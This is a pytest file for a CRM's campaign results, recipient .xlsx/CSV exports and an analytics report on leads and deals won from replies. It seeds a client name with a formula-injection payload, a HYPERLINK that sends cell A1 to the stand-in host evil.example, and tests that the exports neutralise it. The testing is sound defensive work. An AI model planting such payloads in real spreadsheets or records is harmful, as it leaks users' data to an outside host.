"""Issue 14 item 4: a campaign's results (counts by recipient status), its recipients as
an .xlsx (formula-safe, 20,000 rows streamed), and the analytics report "campaigns"
(replies turned into leads and deals), through the real API on SQLite and PostgreSQL.

The report's figures are checked against a count made here in Python over the rows."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import insert

from crm_core.models import Campaign, CampaignRecipient, Client, Deal, Lead
from crm_core.services.campaign_results import ATTRIBUTION_DAYS
from gateway.keys import SETTINGS
from gateway.settings import Settings
from tests.support.api import Api, make_app

T0 = datetime(2026, 11, 2, 9, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def _seed(api: Api) -> dict[str, Any]:
    """Two campaigns by the admin and one by manager a1; clients of a1 and b1; replied
    recipients whose clients then got leads and deals (inside the 90 days, before the
    message, after the window) and the other statuses."""
    u = {k: v.id for k, v in api.users.items()}
    async with api.db.transaction() as s:
        for cid in range(1, 11):
            owner = u["a1"] if cid <= 5 else u["b1"]
            name = EVIL if cid == 1 else f"Клиент {cid}"
            s.add(Client(id=cid, kind="company", name=name, owner_id=owner))
        s.add_all(
            [
                Campaign(
                    id=1,
                    name="Осень",
                    status="done",
                    created_by=u["admin"],
                    started_at=T0,
                    finished_at=T0 + timedelta(hours=1),
                    total=10,
                ),
                Campaign(
                    id=2,
                    name="@Зима",
                    status="sending",
                    created_by=u["admin"],
                    started_at=T0 + timedelta(days=20),
                    total=3,
                ),
                Campaign(id=3, name="Моя", status="draft", created_by=u["a1"]),
            ]
        )
        await s.flush()
        statuses = ["replied", "replied", "replied", "replied", "sent", "failed", "bounced",
                    "unsubscribed", "unknown", "suppressed"]  # fmt: skip
        for i, st in enumerate(statuses, start=1):
            sent = None if st in ("failed", "suppressed", "unknown") else T0 + timedelta(minutes=i)
            s.add(
                CampaignRecipient(
                    campaign_id=1, client_id=i, email=f"c{i}@example.ru", status=st,
                    error="+7 550 no such user" if st == "failed" else None,
                    sent_at=sent, attempts=1,
                )
            )  # fmt: skip
        for i, st in ((1, "replied"), (6, "replied"), (7, "pending")):
            s.add(
                CampaignRecipient(
                    campaign_id=2, client_id=i, email=f"c{i}@example.ru", status=st,
                    sent_at=T0 + timedelta(days=20) if st == "replied" else None,
                )
            )  # fmt: skip
        await s.flush()
        day = timedelta(days=1)
        # client 1 (a1): replied to both campaigns; a lead and a won deal after campaign 1
        # but before campaign 2; a deal after campaign 2 (counts for both).
        s.add_all(
            [
                Lead(id=1, source="email", client_id=1, owner_id=u["a1"], created_at=T0 + day),
                Lead(id=2, source="email", client_id=1, owner_id=u["a1"],
                     created_at=T0 - day),  # before the message: not the campaign's
                Lead(id=3, source="email", client_id=2, owner_id=u["a1"],
                     created_at=T0 + timedelta(days=ATTRIBUTION_DAYS + 1)),  # too late
                Lead(id=4, source="email", client_id=5, owner_id=u["a1"],
                     created_at=T0 + day),  # client 5 did not reply
                Lead(id=5, source="email", client_id=6, owner_id=u["b1"],
                     created_at=T0 + timedelta(days=21)),
            ]
        )  # fmt: skip
        s.add_all(
            [
                Deal(id=1, client_id=1, title="d1", stage="won", amount=Decimal("100000.50"),
                     owner_id=u["a1"], created_at=T0 + 2 * day, closed_at=T0 + 3 * day),
                Deal(id=2, client_id=1, title="d2", stage="new", amount=Decimal("5000"),
                     owner_id=u["a1"], created_at=T0 + timedelta(days=25)),
                Deal(id=3, client_id=3, title="d3", stage="won", amount=Decimal("7000"),
                     owner_id=u["a1"], created_at=T0 + 5 * day, closed_at=T0 + 6 * day),
                Deal(id=4, client_id=5, title="d4", stage="won", amount=Decimal("999"),
                     owner_id=u["a1"], created_at=T0 + day, closed_at=T0 + day),
                Deal(id=5, client_id=6, title="d5", stage="won", amount=Decimal("300"),
                     owner_id=u["b1"], created_at=T0 + timedelta(days=22),
                     closed_at=T0 + timedelta(days=23)),
            ]
        )  # fmt: skip
    return u


async def test_results_counts_and_access(api: Api) -> None:
    await _seed(api)
    status, r = await api.as_("admin").get("/campaigns/1/results")
    assert status == 200, r
    assert r["total"] == 10
    assert r["counts"] == {
        "pending": 0, "sending": 0, "sent": 1, "failed": 1, "bounced": 1, "unsubscribed": 1,
        "replied": 4, "suppressed": 1, "unknown": 1,
    }  # fmt: skip
    # accepted by the SMTP server: sent, replied, bounced, unsubscribed
    assert r["sent"] == 7
    assert (r["failed"], r["bounced"], r["unsubscribed"], r["replied"], r["unknown"]) == (
        1, 1, 1, 4, 1,
    )  # fmt: skip
    assert r["tracking"] is False
    # a manager sees only the campaigns they created; the others do not exist for them
    assert (await api.as_("a1").get("/campaigns/1/results"))[0] == 404
    status, mine = await api.as_("a1").get("/campaigns/3/results")
    assert status == 200 and mine["total"] == 0
    assert (await api.as_("sup").get("/campaigns/1/results"))[0] == 200
    assert (await api.as_("admin").get("/campaigns/99/results"))[0] == 404
    assert (await api.as_("admin").get("/campaigns/abc/results"))[0] == 404
    assert (await api.anonymous().get("/campaigns/1/results"))[0] == 401


async def _xlsx(api: Api, path: str, who: str = "admin", **params: Any) -> tuple[int, Any]:
    caller = api.as_(who)
    resp = await caller.http.get(
        "/api/v1" + path, headers={"Authorization": f"Bearer {caller.token}"}, params=params
    )
    body = await resp.read()
    if resp.status != 200:
        return resp.status, body
    assert resp.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in resp.headers["Content-Disposition"]
    return 200, load_workbook(io.BytesIO(body))


async def test_recipients_xlsx_is_formula_safe_and_filters(api: Api) -> None:
    await _seed(api)
    status, wb = await _xlsx(api, "/campaigns/1/recipients.xlsx")
    assert status == 200
    ws = wb.active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("ID клиента", "Клиент", "Адрес", "Статус", "Ошибка", "Отправлено", "Попыток")
    assert len(rows) == 11
    assert [r[3] for r in rows[1:]].count("replied") == 4
    # the hostile client name and the error text stay text: no formula in the file
    first = ws.cell(row=2, column=2)
    assert first.value == EVIL and first.data_type == "s" and first.quotePrefix
    failed = next(r for r in ws.iter_rows(min_row=2) if r[3].value == "failed")
    assert failed[4].value == "+7 550 no such user" and failed[4].data_type == "s"
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
    status, wb = await _xlsx(api, "/campaigns/1/recipients.xlsx", status="unknown", lang="en")
    rows = list(wb.active.iter_rows(values_only=True))
    assert rows[0][0] == "Client ID"
    assert rows[1:] == [(9, "Клиент 9", "c9@example.ru", "unknown", None, None, 1)]
    status, body = await _xlsx(api, "/campaigns/1/recipients.xlsx", status="lost")
    assert status == 422 and b"status" in body
    assert (await _xlsx(api, "/campaigns/1/recipients.xlsx", who="a1"))[0] == 404
    assert (await _xlsx(api, "/campaigns/77/recipients.xlsx"))[0] == 404


async def test_recipients_xlsx_of_20000(api: Api) -> None:
    await _seed(api)
    n = 20_000
    async with api.db.transaction() as s:
        s.add(Campaign(id=10, name="Большая", status="done", created_by=api.users["admin"].id))
        await s.flush()
        rows = [
            {"campaign_id": 10, "client_id": 1 + i % 10, "email": f"r{i}@example.ru",
             "status": "sent" if i % 7 else "unknown", "sent_at": T0, "attempts": 1}
            for i in range(n)
        ]  # fmt: skip
        for k in range(0, n, 5000):
            await s.execute(insert(CampaignRecipient), rows[k : k + 5000])
    started = time.perf_counter()
    status, wb = await _xlsx(api, "/campaigns/10/recipients.xlsx")
    took = time.perf_counter() - started
    assert status == 200
    got = list(wb.active.iter_rows(values_only=True))
    assert len(got) == n + 1
    assert sum(1 for r in got[1:] if r[3] == "unknown") == len(range(0, n, 7))
    print(f"recipients.xlsx of {n}: {took:.2f} s")
    assert took < 60


def _reference(items: dict[int, Any]) -> None:
    """What the seeded rows mean, counted by hand."""
    # campaign 1 (sent T0): replied clients 1..4; leads: lead 1 (client 1, after);
    # deals: 1 (won 100000.50), 2 (client 1, day 25, open), 3 (client 3, won 7000)
    c1 = items[1]
    assert (c1["recipients"], c1["sent"], c1["replied"]) == (10, 7, 4)
    assert (c1["failed"], c1["bounced"], c1["unsubscribed"], c1["unknown"]) == (1, 1, 1, 1)
    assert (c1["leads"], c1["deals"], c1["deals_won"]) == (1, 3, 2)
    assert c1["won_amount"] == "107000.50"
    # campaign 2 (sent T0+20d): replied clients 1 and 6; lead 5 (client 6);
    # deals 2 (client 1, open) and 5 (client 6, won 300)
    c2 = items[2]
    assert (c2["recipients"], c2["sent"], c2["replied"]) == (3, 2, 2)
    assert (c2["leads"], c2["deals"], c2["deals_won"], c2["won_amount"]) == (1, 2, 1, "300.00")


async def test_analytics_campaigns_report(api: Api) -> None:
    await _seed(api)
    status, r = await api.as_("admin").get("/analytics/campaigns")
    assert status == 200, r
    assert [i["campaign_id"] for i in r["items"]] == [2, 1]  # newest first; the draft not
    assert r["total"] == 2 and r["attribution_days"] == ATTRIBUTION_DAYS
    _reference({i["campaign_id"]: i for i in r["items"]})
    # the period is the campaign's start
    status, r = await api.as_("admin").get(
        "/analytics/campaigns", created_from="2026-11-10", created_to="2026-12-31"
    )
    assert [i["campaign_id"] for i in r["items"]] == [2]
    status, r = await api.as_("admin").get("/analytics/campaigns", limit=1, offset=1)
    assert [i["campaign_id"] for i in r["items"]] == [1] and r["total"] == 2
    # a manager counts only the leads and deals they may see (b1: client 6's)
    status, r = await api.as_("b1").get("/analytics/campaigns")
    by_id = {i["campaign_id"]: i for i in r["items"]}
    assert (by_id[1]["leads"], by_id[1]["deals"]) == (0, 0)
    assert (by_id[2]["leads"], by_id[2]["deals"], by_id[2]["won_amount"]) == (1, 1, "300.00")
    assert (await api.as_("admin").get("/analytics/campaigns", created_from="вчера"))[0] == 422


async def test_analytics_campaigns_files_are_formula_safe(api: Api) -> None:
    await _seed(api)
    caller = api.as_("admin")
    headers = {"Authorization": f"Bearer {caller.token}"}
    resp = await caller.http.get(
        "/api/v1/analytics/campaigns", headers=headers, params={"format": "csv"}
    )
    assert resp.status == 200
    text = (await resp.read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:3] == ["ID рассылки", "Имя", "Статус"]
    assert rows[1][1] == "'@Зима"  # would be a formula in a spreadsheet
    resp = await caller.http.get(
        "/api/v1/analytics/campaigns", headers=headers, params={"format": "xlsx", "lang": "en"}
    )
    wb = load_workbook(io.BytesIO(await resp.read()))
    ws = wb.active
    assert ws.cell(row=1, column=1).value == "Campaign ID"
    name = ws.cell(row=2, column=2)
    assert name.value == "@Зима" and name.data_type == "s" and name.quotePrefix
    resp = await caller.http.get(
        "/api/v1/analytics/campaigns", headers=headers, params={"format": "svg"}
    )
    assert resp.status == 200 and (await resp.text()).lstrip().startswith("<")


async def test_recipients_with_names_paged_by_keyset(api: Api) -> None:
    await _seed(api)
    admin = api.as_("admin")
    status, p1 = await admin.get("/campaigns/1/results/recipients", limit=4)
    assert status == 200, p1
    assert p1["total"] == 10 and len(p1["items"]) == 4
    assert p1["items"][0]["client_name"] == EVIL and p1["items"][1]["client_name"] == "Клиент 2"
    seen = [i["id"] for i in p1["items"]]
    after = p1["next_after"]
    while after:
        status, page = await admin.get("/campaigns/1/results/recipients", limit=4, after=after)
        seen += [i["id"] for i in page["items"]]
        after = page["next_after"]
    assert len(seen) == len(set(seen)) == 10 and seen == sorted(seen)
    status, unknown = await admin.get("/campaigns/1/results/recipients", status="unknown")
    assert [(i["email"], i["status"]) for i in unknown["items"]] == [("c9@example.ru", "unknown")]
    assert unknown["total"] == 1 and unknown["next_after"] is None
    assert (await admin.get("/campaigns/1/results/recipients", status="x"))[0] == 422
    assert (await admin.get("/campaigns/1/results/recipients", after="abc"))[0] == 422
    assert (await api.as_("a1").get("/campaigns/1/results/recipients"))[0] == 404


async def test_campaign_access_follows_the_setting(api: Api, aiohttp_client: Any) -> None:
    assert (await api.as_("admin").get("/campaign-access"))[1]["may_send"] is True
    assert (await api.as_("sup").get("/campaign-access"))[1]["may_send"] is True
    status, a1 = await api.as_("a1").get("/campaign-access")
    assert status == 200 and a1 == {"may_send": False, "managers_allowed": False}
    assert (await api.anonymous().get("/campaign-access"))[0] == 401
    app = make_app(api.db)
    app[SETTINGS] = Settings(campaigns_managers_allowed=True)
    allowed = Api(await aiohttp_client(app), api.db, api.users, api.tokens)
    status, a1 = await allowed.as_("a1").get("/campaign-access")
    assert status == 200 and a1 == {"may_send": True, "managers_allowed": True}
